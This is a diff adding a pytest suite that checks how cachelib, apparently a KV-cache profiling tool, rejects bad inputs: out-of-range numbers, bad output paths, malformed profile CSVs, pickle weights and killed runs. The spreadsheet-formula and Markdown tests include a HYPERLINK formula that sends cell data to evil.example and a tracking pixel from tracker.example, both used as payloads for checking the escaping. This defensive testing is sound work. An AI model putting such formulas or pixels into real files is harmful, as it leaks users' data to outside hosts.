@@ -1,0 +1,871 @@
+"""The fault and bad-input catalogue (issue 17): what each bad input gets.
+
+Every case names the catalogue item it pins and asserts what the user gets — the exit code and
+one line on stderr, or the exception class — that the message names the input at fault, and that
+no file that was there before changed (every file under the test's folder is hashed before and
+after). docs/faults.md lists the same catalogue for people.
+
+The faults of items 1-3 run real processes (``python -m cachelib profile`` on the tiny-llama
+preset): two runs writing one ``--out`` at once, Ctrl-C and SIGTERM on a run whose ``--out``
+already holds a complete profile, SIGKILL; afterwards every profile present opens.
+"""
+
+from __future__ import annotations
+
+import argparse
+import hashlib
+import math
+import os
+import signal
+import subprocess
+import sys
+import time
+from dataclasses import dataclass
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+ROOT = Path(__file__).resolve().parents[1]
+if str(ROOT) not in sys.path:  # the app is a folder, not a package of cachelib
+    sys.path.insert(0, str(ROOT))
+
+from cachelib.cli import main  # noqa: E402
+from cachelib.core.cells import escape_cell, unescape_cell  # noqa: E402
+from cachelib.profile import list_profiles, load_profile, read_meta, run_profile, save_profile  # noqa: E402
+from cachelib.profile.guard import parse_memory_limit  # noqa: E402
+from cachelib.profile.store import ENDED_WITHOUT_CLOSING, ProfileWriter  # noqa: E402
+
+MODEL = "tiny-llama"
+
+
+# --- helpers ------------------------------------------------------------------------------------
+
+
+def snapshot(folder: Path) -> dict[str, str]:
+    """Every file under ``folder`` -> the hash of its bytes."""
+    out = {}
+    for p in sorted(folder.rglob("*")):
+        if p.is_file() and not p.is_symlink():
+            try:
+                out[str(p.relative_to(folder))] = hashlib.sha256(p.read_bytes()).hexdigest()
+            except OSError:
+                pass
+    return out
+
+
+def unchanged(before: dict[str, str], after: dict[str, str]) -> list[str]:
+    """Files that were there before and are gone or different now."""
+    return [name for name, digest in before.items() if after.get(name) != digest]
+
+
+def run_cli(argv: list[str], capsys) -> tuple[int, list[str], str]:
+    """``python -m cachelib ARGV`` in this process: exit code, the non-empty stderr lines, stdout."""
+    code = main(argv)
+    captured = capsys.readouterr()
+    return code, [line for line in captured.err.splitlines() if line.strip()], captured.out
+
+
+@pytest.fixture
+def world(tmp_path, tiny_profile):
+    """A folder holding a complete profile (``profiles/existing.csv``) and a few other files."""
+    (tmp_path / "profiles").mkdir()
+    (tmp_path / "profiles" / "existing.csv").write_bytes(tiny_profile.read_bytes())
+    (tmp_path / "afile").write_text("a file, not a folder\n")
+    (tmp_path / "x.csv").mkdir()  # a folder named like a profile
+    return tmp_path
+
+
+@pytest.fixture(scope="module")
+def tiny_profile(tmp_path_factory, load_model) -> Path:
+    path = tmp_path_factory.mktemp("existing") / "existing.csv"
+    run_profile(load_model(MODEL, "mlx"), ["standard", "rotating:max_size=8,keep=2"], prompt="an existing run",
+                max_tokens=6, out=path)  # fmt: skip
+    return path
+
+
+@pytest.fixture
+def no_model_load(monkeypatch):
+    """Fail the test if a run gets as far as loading the model."""
+
+    def refuse(*args, **kwargs):
+        raise AssertionError("the model was loaded before the bad input was refused")
+
+    monkeypatch.setattr("cachelib.profile.run.load", refuse)
+
+
+# --- one line, exit 2, before any work: items 4, 6, 7, 8 ----------------------------------------------
+
+
+@dataclass(frozen=True)
+class Case:
+    item: int
+    what: str  # the bad input, in words
+    argv: tuple[str, ...]  # {w} is the world folder
+    names: str  # the message names this (the input at fault)
+    says: str = ""  # ... and says this (the rule, the range, the encoding)
+
+    def args(self, w: Path) -> list[str]:
+        return _in(w, self.argv)
+
+
+def _profile(*extra: str, out: str = "{w}/profiles/new.csv", prompt: bool = True) -> tuple[str, ...]:
+    return ("profile", "--model", MODEL, *(("--prompt", "hi") if prompt else ()), "--max-tokens", "2",
+            "--out", out, *extra)  # fmt: skip
+
+
+def _in(w: Path, argv: tuple[str, ...]) -> list[str]:
+    return [a.format(w=w) for a in argv]
+
+
+def _plan(*extra: str) -> tuple[str, ...]:
+    return ("plan", "--model", "smollm2", "--context", "1000", "--no-default-evidence", *extra)
+
+
+LONG_NAME = "p" * 300 + ".csv"
+
+BEFORE_LOAD = [
+    # 4. --out faults surface before anything is loaded
+    Case(4, "--out is a folder named x.csv", _profile(out="{w}/x.csv"), "x.csv", "is a folder"),
+    Case(4, "--out under a file", _profile(out="{w}/afile/run.csv"), "afile/run.csv", "a file stands where"),
+    Case(4, "--out in /proc", _profile(out="/proc/run.csv"), "/proc/run.csv", "cannot write"),
+    Case(4, "--out with a name over the file system's limit", _profile(out="{w}/" + LONG_NAME), LONG_NAME[:50], "too long"),
+    Case(4, "--out not a .csv", _profile(out="{w}/run.txt"), "run.txt", "use a .csv name"),
+    # 6. specs that pass the grammar but no backend can index
+    Case(6, "rotating:max_size=10**12", _profile("--strategy", "rotating:max_size=1000000000000"), "max_size", "<= 2147483647"),
+    Case(6, "rotating:max_size=10**29", _profile("--strategy", "rotating:max_size=" + "1" + "0" * 29), "max_size", "int32"),
+    Case(6, "static:max_len=10**12", _profile("--strategy", "static:max_len=1000000000000"), "max_len", "<= 2147483647"),
+    Case(6, "--max-kv-size 10**12", _profile("--max-kv-size", "1000000000000"), "--max-kv-size", "<= 2,147,483,647"),
+    # 7. non-finite and out-of-range numbers, every numeric option
+    Case(7, "--memory-limit-gb inf", _profile("--memory-limit-gb", "inf"), "--memory-limit-gb", "finite"),
+    Case(7, "--memory-limit-gb nan", _profile("--memory-limit-gb", "nan"), "--memory-limit-gb", "finite"),
+    Case(7, "--memory-limit-gb 0", _profile("--memory-limit-gb", "0"), "--memory-limit-gb", "> 0"),
+    Case(7, "--max-tokens 0", _profile("--max-tokens", "0"), "--max-tokens", ">= 1"),
+    Case(7, "--sample-every nan", _profile("--sample-every", "nan"), "--sample-every", "integer"),
+    Case(7, "--quantized-kv-start -1", _profile("--kv-bits", "4", "--quantized-kv-start", "-1"), "--quantized-kv-start", ">= 0"),
+    Case(7, "--kv-bits 7", _profile("--kv-bits", "7"), "--kv-bits", "choose from"),
+    Case(7, "plan --budget-gb inf", _plan("--budget-gb", "inf"), "--budget-gb", "finite"),
+    Case(7, "plan --budget-gb nan", _plan("--budget-gb", "nan"), "--budget-gb", "finite"),
+    Case(7, "plan --weights-gb inf", _plan("--budget-gb", "10", "--weights-gb", "inf"), "--weights-gb", "finite"),
+    Case(7, "plan --reserve-gb -1", _plan("--reserve-gb", "-1"), "--reserve-gb", ">= 0"),
+    Case(7, "plan --weight-bits inf", _plan("--weight-bits", "inf"), "--weight-bits", "finite"),
+    Case(7, "plan --prefill-chunk 0", _plan("--prefill-chunk", "0"), "--prefill-chunk", ">= 1"),
+    Case(7, "plan --prefill -1", _plan("--prefill", "-1"), "--prefill", ">= 0"),
+    Case(7, "plan --context 0", ("plan", "--model", "smollm2", "--context", "0"), "--context", ">= 1"),
+    Case(7, "plan --max-kl nan", _plan("--max-kl", "nan"), "--max-kl", "finite"),
+    Case(7, "plan --max-kl -1", _plan("--max-kl", "-1"), "--max-kl", ">= 0"),
+    Case(7, "plan --min-agreement 2", _plan("--min-agreement", "2"), "--min-agreement", "<= 1"),
+    Case(7, "sweep --workers 0", ("sweep", "{w}/grid.toml", "--workers", "0"), "--workers", ">= 1"),
+    # 8. text input
+    Case(8, "--text-file /dev/zero", _profile("--text-file", "/dev/zero", prompt=False), "/dev/zero", "50 MB"),
+    Case(8, "--text-file in Latin-1", _profile("--text-file", "{w}/latin1.txt", prompt=False), "latin1.txt", "UTF-8"),
+    Case(8, "--text-file binary", _profile("--text-file", "{w}/binary.dat", prompt=False), "binary.dat", "UTF-8"),
+    Case(8, "--text-file missing", _profile("--text-file", "{w}/missing.txt", prompt=False), "missing.txt", "No such file"),
+]  # fmt: skip
+
+if not os.path.exists("/proc/self"):  # not Linux: no /proc to refuse
+    BEFORE_LOAD = [c for c in BEFORE_LOAD if "/proc" not in c.what]
+
+# 9. model folders: broken safetensors, pickle weights only (refused by the loader, so after "loading" starts)
+MODEL_FOLDERS = [
+    Case(9, "a 0-byte model.safetensors", _profile("--model", "{w}/empty-model"), "empty-model/model.safetensors", "empty"),
+    Case(9, "random bytes as model.safetensors", _profile("--model", "{w}/random-model"),
+         "random-model/model.safetensors", "not a usable safetensors file"),
+    Case(9, "only pytorch_model.bin", _profile("--model", "{w}/pickle-model"), "pytorch_model.bin", "never pickle"),
+    Case(9, "only pytorch_model.bin, torch", _profile("--model", "{w}/pickle-model", "--backend", "torch"),
+         "pytorch_model.bin", "never pickle"),
+]  # fmt: skip
+
+
+def _bad_inputs(w: Path) -> None:
+    (w / "latin1.txt").write_bytes("caf\xe9 au lait, na\xefve".encode("latin-1"))
+    (w / "binary.dat").write_bytes(bytes(range(256)) * 8)
+    (w / "grid.toml").write_text('name = "g"\n')
+    from cachelib.models.presets import preset_folder
+
+    preset = preset_folder(MODEL)
+    for name, weights in (("empty-model", b""), ("random-model", os.urandom(4096)), ("pickle-model", None)):
+        folder = w / name
+        folder.mkdir()
+        for f in preset.iterdir():
+            if f.suffix != ".safetensors":
+                (folder / f.name).write_bytes(f.read_bytes())
+        if weights is None:
+            (folder / "pytorch_model.bin").write_bytes(b"not read: pickles are never loaded")
+        else:
+            (folder / "model.safetensors").write_bytes(weights)
+
+
+@pytest.mark.parametrize("case", BEFORE_LOAD, ids=lambda c: f"{c.item}-{c.what}")
+def test_bad_input_exits_2_with_one_line_naming_it_before_any_work(case, world, capsys, no_model_load):
+    _refused(case, world, capsys)
+
+
+@pytest.mark.parametrize("case", MODEL_FOLDERS, ids=lambda c: f"{c.item}-{c.what}")
+def test_9_a_bad_model_folder_exits_2_with_one_line_naming_the_file(case, world, capsys):
+    _refused(case, world, capsys)
+
+
+def _refused(case: Case, world: Path, capsys) -> None:
+    _bad_inputs(world)
+    before = snapshot(world)
+    code, err, _ = run_cli(case.args(world), capsys)
+    assert code == 2, err
+    assert len(err) == 1, err
+    assert case.names in err[0] and case.says in err[0], err[0]
+    assert not unchanged(before, snapshot(world))
+    assert set(snapshot(world)) == set(before), "a refused run wrote a file"
+
+
+@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes into read-only folders")
+def test_4_read_only_folder_is_refused_before_the_model_loads(world, capsys, no_model_load):
+    folder = world / "read-only"
+    folder.mkdir()
+    folder.chmod(0o555)
+    try:
+        code, err, _ = run_cli(_in(world, _profile(out=f"{folder}/run.csv")), capsys)
+    finally:
+        folder.chmod(0o755)
+    assert code == 2 and len(err) == 1 and "read-only/run.csv" in err[0] and "Permission denied" in err[0], err
+
+
+def test_4_the_api_refuses_a_bad_out_path_before_loading(world, no_model_load):
+    with pytest.raises(IsADirectoryError, match="x.csv"):
+        run_profile(MODEL, ["standard"], prompt="hi", out=world / "x.csv")
+    with pytest.raises(NotADirectoryError, match="afile"):
+        run_profile(MODEL, ["standard"], prompt="hi", out=world / "afile" / "run.csv")
+
+
+def test_7_evaluate_numbers_are_checked_like_the_others_when_present(capsys):
+    import importlib.util
+
+    if importlib.util.find_spec("cachelib.cli.evaluate") is None:
+        pytest.skip("no evaluate command here")
+    for flag, value in (("--prefill-chunk", "0"), ("--context", "nan"), ("--windows", "inf")):
+        code, err, _ = run_cli(["evaluate", flag, value, "--context", "8"], capsys)
+        assert code == 2 and len(err) == 1 and flag in err[0], err
+
+
+# --- 6. a run that cannot fit is refused with the figure; the guard has a default -------------------------
+
+
+def test_6_a_run_whose_caches_cannot_fit_is_refused_with_the_predicted_bytes(world, capsys):
+    before = snapshot(world)
+    code, err, _ = run_cli(_in(world, _profile("--strategy", "static:max_len=2000000000")), capsys)  # 4.1 TB of cache
+    assert code == 2 and len(err) == 1, err
+    assert "would need 4.10 TB (4,096,000,000,000 bytes" in err[0] and "--memory-limit-gb" in err[0], err[0]
+    assert not unchanged(before, snapshot(world)) and set(snapshot(world)) == set(before)
+
+
+def test_6_static_20m_tokens_is_refused_on_a_small_machine_and_runs_under_an_explicit_limit(world, capsys, monkeypatch):
+    monkeypatch.setattr("cachelib.profile.run.available_memory", lambda device: 8 * 10**9)
+    spec = "static:max_len=20000000"  # 41 GB of float32 cache on tiny-llama
+    code, err, _ = run_cli(_in(world, _profile("--strategy", spec)), capsys)
+    assert code == 2 and len(err) == 1 and "would need 40.96 GB" in err[0] and "7.20 GB" in err[0], err
+    # Asked explicitly: the run goes under the guard, which stops it before the first step allocates.
+    handler = signal.getsignal(signal.SIGTERM)
+    code, err, out = run_cli(_in(world, _profile("--strategy", spec, "--memory-limit-gb", "1")), capsys)
+    assert code == 0, err
+    assert signal.getsignal(signal.SIGTERM) is handler  # the run's SIGTERM handler is gone with the run
+    profile = load_profile(world / "profiles" / "new.csv")
+    assert profile.status == "incomplete" and "memory guard" in profile.meta["reason"]
+    assert int(profile.meta["steps_completed"]) == 0
+
+
+def test_6_the_default_guard_stops_a_run_that_outgrows_the_prediction(load_model, tmp_path, monkeypatch):
+    import cachelib.profile.run as run
+
+    monkeypatch.setattr(run, "available_memory", lambda device: 10**9)
+    monkeypatch.setattr(run, "predicted_peaks", lambda *a: [0])  # a prediction that is wrong on purpose
+    monkeypatch.setattr(run, "DEFAULT_SHARE", 2e-4)  # 200 kB for the caches
+    profile = run_profile(load_model(MODEL, "mlx"), ["standard"], prompt="hi", max_tokens=4, out=tmp_path / "r.csv")
+    assert profile.status == "incomplete"
+    assert "memory guard" in profile.meta["reason"] and "the default" in profile.meta["reason"]
+
+
+# --- 7. the Python API refuses non-finite numbers too ----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "make, names",
+    [
+        (lambda: parse_memory_limit(float("inf")), "memory_limit"),
+        (lambda: parse_memory_limit(float("nan")), "memory_limit"),
+        (lambda: parse_memory_limit(-1), "memory_limit"),
+        (lambda: __import__("cachelib.plan.request", fromlist=["x"]).gb_to_bytes("budget-gb", float("inf")), "--budget-gb"),
+        (lambda: _request(budget_bytes=float("inf")), "budget_bytes"),
+        (lambda: _request(weights_bytes=float("nan")), "weights_bytes"),
+        (lambda: _request(max_kl=float("nan")), "--max-kl"),
+        (lambda: _request(min_agreement=2.0), "--min-agreement"),
+        (lambda: _request(prefill_chunk=0), "--prefill-chunk"),
+        (lambda: _request(weight_bits=math.inf), "--weight-bits"),
+        (lambda: _request(context=float("inf")), "--context"),
+    ],
+    ids=lambda v: v if isinstance(v, str) else "",
+)
+def test_7_the_api_raises_value_error_naming_the_number(make, names):
+    with pytest.raises(ValueError, match=names.replace("-", r"\-")):
+        make()
+
+
+def _request(**kw):
+    from cachelib.plan.request import PlanRequest
+
+    return PlanRequest(["standard"], **{"context": 1000, **kw})
+
+
+def test_7_argument_types_refuse_non_finite_values_with_the_range():
+    from cachelib.cli.args import finite_float, int_range
+
+    share = finite_float(0.0, 1.0)
+    assert share("0.25") == 0.25
+    for text, message in (("nan", "finite"), ("inf", "finite"), ("-inf", "finite"), ("1.5", "<= 1"), ("x", "number")):
+        with pytest.raises(argparse.ArgumentTypeError, match=message):
+            share(text)
+    count = int_range(1, 10)
+    assert count("1_0") == 10
+    for text, message in (("0", ">= 1 and <= 10"), ("11", "<= 10"), ("nan", "integer"), ("1.5", "integer")):
+        with pytest.raises(argparse.ArgumentTypeError, match=message):
+            count(text)
+
+
+# --- 9. model folders: never pickle ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("backend", ["mlx", "torch"])
+def test_9_pickle_weights_next_to_safetensors_are_never_loaded(tmp_path, backend, monkeypatch):
+    import pickle
+
+    from cachelib.models import load
+    from cachelib.models.presets import preset_folder
+
+    folder = tmp_path / "model"
+    folder.mkdir()
+    for f in preset_folder(MODEL).iterdir():
+        (folder / f.name).write_bytes(f.read_bytes())
+    (folder / "pytorch_model.bin").write_bytes(pickle.dumps({"never": "loaded"}))
+    (folder / "extra.pt").write_bytes(b"junk")
+    if backend == "torch":
+        import torch
+
+        def refuse(*a, **k):
+            raise AssertionError("torch.load was called on a pickle file")
+
+        monkeypatch.setattr(torch, "load", refuse)
+    loaded = load(str(folder), backend)
+    assert loaded.info.num_layers == 4
+
+
+# --- 11, 12. profiles as untrusted input ----------------------------------------------------------
+
+
+def _edit(path: Path, out: Path, table: str, column: str, value: str, nth: int = 1, key: str | None = None) -> Path:
+    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
+    rows = frame.index[(frame["table"] == table) & ((frame["key"] == key) if key else True)]
+    frame.loc[rows[nth if not key else -1], column] = value
+    frame.to_csv(out, index=False)
+    return out
+
+
+BAD_PROFILES = [
+    (11, "-inf in an integer column", "steps", "token_id", "-inf", "'-inf' is not an integer"),
+    (11, "a 40-digit number in an integer column", "layers", "bytes_used", "9" * 40, "does not fit a 64-bit integer"),
+    (11, "an empty position", "steps", "position", "", "is empty"),
+    (11, "a number in a float column that is text", "steps", "wall_seconds", "fast", "is not a number"),
+    (12, "KL of -1000", "steps", "kl", "-1000", "kl must be >= 0"),
+    (12, "an infinite KL", "steps", "kl", "inf", "not a finite number"),
+    (12, "top-1 agreement of 2", "steps", "top1_agree", "2", "not a flag (0 or 1)"),
+    (12, "a negative step", "layers", "step", "-4", "step must be >= 0"),
+    (12, "a NUL byte", "steps", "strategy", "stan\x00dard", "NUL byte"),
+    (12, "a mask of other characters", "masks", "mask", "1x1", "not a mask"),
+]
+BAD_META = [
+    (11, "strategies meta is a number", "strategies", "5", "not a JSON list of strategy names"),
+    (11, "strategies meta is a dict", "strategies", '{"a": 1}', "not a JSON list of strategy names"),
+    (11, "strategies meta lists a number", "strategies", '["standard", 3]', "not a JSON list of strategy names"),
+    (11, "baseline not among the strategies", "baseline", "lru", "not one of the run's strategies"),
+    (12, "steps_completed of -2", "steps_completed", "-2", "not a whole number"),
+    (12, "a status nobody writes", "status", "finished", "not one of running, complete, incomplete"),
+]
+
+
+@pytest.fixture(scope="module")
+def masked_profile(tmp_path_factory, load_model) -> Path:
+    from cachelib.profile import Probes
+
+    path = tmp_path_factory.mktemp("masked") / "masked.csv"
+    run_profile(load_model(MODEL, "mlx"), ["standard", "rotating:max_size=8,keep=2"], prompt="hello there",
+                max_tokens=6, probes=Probes(masks=1), out=path)  # fmt: skip
+    return path
+
+
+@pytest.mark.parametrize("item, what, table, column, value, says", BAD_PROFILES, ids=[c[1] for c in BAD_PROFILES])
+def test_11_12_a_malformed_profile_is_one_value_error_naming_file_line_and_column(
+    item, what, table, column, value, says, masked_profile, tmp_path
+):
+    bad = _edit(masked_profile, tmp_path / "bad.csv", table, column, value)
+    before = snapshot(tmp_path)
+    with pytest.raises(ValueError) as e:
+        load_profile(bad)
+    message = str(e.value)
+    assert message.startswith(f"{bad}, line ") and f"column {column!r}" in message and says in message, message
+    line = int(message.split(", line ")[1].split(",")[0])
+    text = bad.read_text(encoding="utf-8").splitlines()[line - 1]  # the line named holds the bad cell
+    assert text.startswith(table + ",") and value in text, text
+    assert not unchanged(before, snapshot(tmp_path))
+
+
+@pytest.mark.parametrize("item, what, key, value, says", BAD_META, ids=[c[1] for c in BAD_META])
+def test_11_12_malformed_metadata_is_refused_by_both_readers(item, what, key, value, says, masked_profile, tmp_path):
+    bad = _edit(masked_profile, tmp_path / "bad.csv", "meta", "value", value, key=key)
+    for read in (load_profile, read_meta):
+        with pytest.raises(ValueError, match=f"bad.csv, line [0-9]+, meta '{key}': .*{says}"):
+            read(bad)
+
+
+def test_11_a_bad_file_is_listed_as_not_a_profile_and_the_listing_goes_on(masked_profile, tmp_path, capsys):
+    folder = tmp_path / "profiles"
+    folder.mkdir()
+    (folder / "good.csv").write_bytes(masked_profile.read_bytes())
+    _edit(masked_profile, folder / "bad.csv", "meta", "value", "{}", key="strategies")
+    code, err, out = run_cli(["profiles", str(folder)], capsys)
+    assert code == 0, err
+    lines = {line.split()[0]: line for line in out.splitlines()}
+    assert "complete" in lines["good.csv"]
+    assert "not a profile" in lines["bad.csv"] and "meta 'strategies'" in lines["bad.csv"]
+
+
+def test_12_values_read_back_exactly_and_a_profile_round_trips(masked_profile, tmp_path):
+    profile = load_profile(masked_profile)
+    again = load_profile(save_profile(profile, tmp_path / "again.csv"))
+    assert again == profile
+
+
+# --- 14. spreadsheet formulas --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=HYPERLINK(\"http://x\",\"y\")", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted", "''", "'", "plain", "",
+     "-0.5", "+3", "-inf", "1e5", "=", "-", "- item", "a=b"],
+)  # fmt: skip
+def test_14_cells_are_neutralised_and_come_back_exactly(text):
+    escaped = escape_cell(text)
+    assert unescape_cell(escaped) == text
+    live = text[:1] in ("=", "+", "-", "@", "\t", "\r", "'") and not _number(text)
+    assert escaped == ("'" + text if live else text)  # numbers like -0.5 stay numbers
+
+
+def test_14_a_profile_with_formula_text_is_safe_on_disk_and_round_trips(load_model, tmp_path):
+    prompt = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    path = tmp_path / "f.csv"
+    profile = run_profile(load_model(MODEL, "mlx"), ["standard"], prompt=prompt, max_tokens=2, out=path, name="@name")
+    raw = path.read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in raw and ",'@name," in raw
+    import csv
+
+    cells = [c for row in csv.reader(path.open(newline="", encoding="utf-8")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]
+    back = load_profile(path)
+    assert back.meta["prompt"] == prompt and back.meta["name"] == "@name" and back == profile
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_14_plan_csv_neutralises_a_folder_name_and_keeps_numbers(tmp_path, capsys):
+    import csv
+    import json
+
+    folder = tmp_path / '=HYPERLINK("evil.example","y")'
+    folder.mkdir()
+    (folder / "config.json").write_text(json.dumps({
+        "model_type": "llama", "num_hidden_layers": 2, "hidden_size": 64, "num_attention_heads": 2,
+        "num_key_value_heads": 1, "head_dim": 32, "vocab_size": 100, "intermediate_size": 128,
+    }))  # fmt: skip
+    out = tmp_path / "plan.csv"
+    code, err, _ = run_cli(["plan", "--model", str(folder / "config.json"), "--context", "1000", "--budget-gb", "0.0011",
+                            "--weights-gb", "0.001", "--no-default-evidence", "--csv", str(out)], capsys)  # fmt: skip
+    assert code == 0, err
+    row = next(csv.DictReader(out.open(newline="")))
+    assert row["model"] == "'" + folder.name
+    assert not [v for v in row.values() if v[:1] in ("=", "+", "@") or (v[:1] == "-" and not _number(v))]
+    assert int(row["headroom_bytes"]) < 0  # a negative number stays a number
+
+
+# --- 15. user text in the app is plain text ---------------------------------------------------------
+
+
+def test_15_markdown_in_user_text_renders_as_the_characters():
+    from app.plain import md
+
+    assert md("![x](http://e/x.png) **b** [l](u) :red[r] <b> www.e.com") == (
+        r"\!\[x\](http\://e/x.png) \*\*b\*\* \[l\](u) :red\[r\] \<b\> www\.e.com"
+    )
+    assert md("- a list\n# a heading") == r"\- a list \# a heading"
+    assert md("plain words: kept (as they are).") == "plain words: kept (as they are)."
+
+
+def test_11_15_the_profiles_page_escapes_prompts_and_shows_one_error_per_bad_file(
+    masked_profile, tmp_path, monkeypatch, load_model
+):
+    from streamlit.testing.v1 import AppTest
+
+    folder = tmp_path / "profiles"
+    folder.mkdir()
+    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(folder))
+    prompt = "![pixel](http://tracker.example/p.png) [click](http://evil.example) **loud**"
+    run_profile(load_model(MODEL, "mlx"), ["standard"], prompt=prompt, max_tokens=3, out=folder / "md.csv")
+    _edit(masked_profile, folder / "bad.csv", "steps", "kl", "-1000")
+    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120)
+    at.run()
+    at.switch_page("views/profiles.py").run()
+    assert not at.exception
+    at.multiselect(key="compare").select("md.csv").select("bad.csv").run()
+    assert not at.exception
+    assert len(at.error) == 1, [e.value for e in at.error]
+    assert "bad.csv, line" in at.error[0].value and "column 'kl'" in at.error[0].value
+    described = [m.value for m in at.markdown if "md" in m.value and "tiny" in m.value]
+    assert described and "![" not in described[0] and "](" not in described[0].replace("\\](", "")
+    assert r"\!\[pixel\]" in described[0]
+    assert len(at.get("plotly_chart")) == 4  # the good profile is still compared
+
+
+# --- 1, 2, 3. real processes: concurrent runs, Ctrl-C, SIGTERM, SIGKILL -----------------------------------
+
+
+def _start(out: Path, prompt: str, max_tokens: int) -> subprocess.Popen:
+    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
+    return subprocess.Popen(
+        [sys.executable, "-m", "cachelib", "profile", "--model", MODEL, "--prompt", prompt,
+         "--max-tokens", str(max_tokens), "--out", str(out)],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=ROOT,
+        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # even where the test runner ignores Ctrl-C
+    )  # fmt: skip
+
+
+def _wait_for_steps(folder: Path, n: int, timeout: float = 240) -> Path:
+    """The partial file of a run in ``folder`` once it holds ``n`` steps rows."""
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        for p in folder.glob(".*.partial"):
+            try:
+                if p.read_text(encoding="utf-8").count("\nsteps,") >= n:
+                    return p
+            except OSError:
+                pass
+        time.sleep(0.2)
+    raise AssertionError(f"no run in {folder} reached {n} steps")
+
+
+def _every_profile_opens(folder: Path) -> list:
+    files = list_profiles(folder)
+    for f in files:
+        load_profile(f.path)  # raises on anything unreadable
+    return files
+
+
+@pytest.mark.slow
+def test_1_two_runs_writing_one_out_each_keep_their_own_complete_profile(tmp_path):
+    out = tmp_path / "same.csv"
+    runs = [_start(out, prompt, 40) for prompt in ("the first prompt", "the second prompt")]
+    results = [r.communicate(timeout=400) for r in runs]
+    assert [r.returncode for r in runs] == [0, 0], results
+    written = sorted(p.name for p in tmp_path.iterdir())
+    assert len(written) == 2 and "same.csv" in written, written  # and no partial file left behind
+    reported = [line for stdout, _ in results for line in stdout.splitlines() if line.startswith("profile: ")]
+    assert sorted(line.split()[1] for line in reported) == sorted(str(tmp_path / n) for n in written)
+    assert any("was kept as it is (another run wrote it while this one ran)" in line for line in reported)
+    profiles = [load_profile(tmp_path / n) for n in written]
+    assert all(p.complete for p in profiles)
+    assert sorted(p.meta["prompt"] for p in profiles) == ["the first prompt", "the second prompt"]
+    for p in profiles:  # each file holds one run's rows alone
+        assert len(p.frame("steps")) == 40 and p.frame("steps")["step"].is_monotonic_increasing
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("sig, code, how", [(signal.SIGINT, 130, "Ctrl-C"), (signal.SIGTERM, 143, "SIGTERM")])
+def test_2_3_ctrl_c_and_sigterm_keep_the_existing_profile_and_write_the_incomplete_run_next_to_it(
+    sig, code, how, tmp_path, tiny_profile
+):
+    out = tmp_path / "run.csv"
+    out.write_bytes(tiny_profile.read_bytes())
+    before = snapshot(tmp_path)
+    run = _start(out, "a run that is stopped", 100_000)
+    _wait_for_steps(tmp_path, 3)
+    run.send_signal(sig)
+    stdout, stderr = run.communicate(timeout=120)
+    assert run.returncode == code, stderr
+    assert not unchanged(before, snapshot(tmp_path))  # the complete profile is untouched
+    incomplete = tmp_path / "run.incomplete.csv"
+    assert f"interrupted ({how}): profile: {incomplete} (incomplete: interrupted ({how}) during step" in stderr, stderr
+    assert f"{out} was kept as it is" in stderr
+    stopped = load_profile(incomplete)
+    assert stopped.status == "incomplete" and int(stopped.meta["steps_completed"]) >= 3
+    assert load_profile(out).complete
+    assert [f.name for f in _every_profile_opens(tmp_path)] == ["run.csv", "run.incomplete.csv"]
+
+
+@pytest.mark.slow
+def test_3_sigkill_leaves_a_partial_file_listed_as_ended_without_closing(tmp_path, capsys):
+    from app import state  # the app's Profiles page lists what list_profiles lists, with this table
+
+    out = tmp_path / "killed.csv"
+    run = _start(out, "a run that is killed", 100_000)
+    partial = _wait_for_steps(tmp_path, 3)
+    assert read_meta(partial)["status"] == "running"  # while its process lives
+    run.kill()
+    run.communicate(timeout=60)
+    files = _every_profile_opens(tmp_path)
+    assert [(f.name, f.partial) for f in files] == [(partial.name, True)]
+    meta = read_meta(partial)
+    assert meta["status"] == "incomplete" and meta["reason"] == ENDED_WITHOUT_CLOSING
+    assert load_profile(partial).frame("steps")["step"].max() >= 2
+    table = state.listing(files)
+    assert table.loc[0, "status"] == "incomplete" and "ended without closing" in table.loc[0, "reason"]
+    code, err, printed = run_cli(["profiles", str(tmp_path)], capsys)
+    assert code == 0 and partial.name in printed and "ended without closing" in printed
+
+
+def test_3_a_partial_file_reads_as_running_while_its_writer_holds_it_then_as_ended(tiny_profile, tmp_path, monkeypatch):
+    from streamlit.testing.v1 import AppTest
+
+    writer = ProfileWriter(tmp_path / "r.csv")
+    writer.write_meta(load_profile(tiny_profile).meta | {"status": "running", "reason": ""})
+    writer.flush()
+    [f] = list_profiles(tmp_path)
+    assert f.partial and f.label.startswith("r.") and f.label.endswith(".partial")
+    assert read_meta(f.path)["status"] == "running"
+    writer._file.close()  # the process died: its lock is gone, its file stays
+    assert read_meta(f.path)["reason"] == ENDED_WITHOUT_CLOSING
+    # The app's Profiles page lists it, and loads it.
+    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(tmp_path))
+    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120)
+    at.run()
+    at.switch_page("views/profiles.py").run()
+    listing = at.dataframe[0].value.set_index("profile")
+    assert listing.loc[f.name, "status"] == "incomplete" and "ended without closing" in listing.loc[f.name, "reason"]
+    at.multiselect(key="compare").select(f.name).run()
+    assert not at.exception and not at.error
+
+
+# --- items 5, 10, 13, 16, 17, 18 ------------------------------------------------------------------------
+# The other half of the catalogue (sweep index rows whose profile is empty, the Planner page on
+# huge contexts, large profiles, the sweep cluster's sockets, transformers and mlx-lm parity) is
+# added here by its owner, in the same form: a case per input, the exit code or exception class,
+# the message naming the input, no existing file changed.
+
+
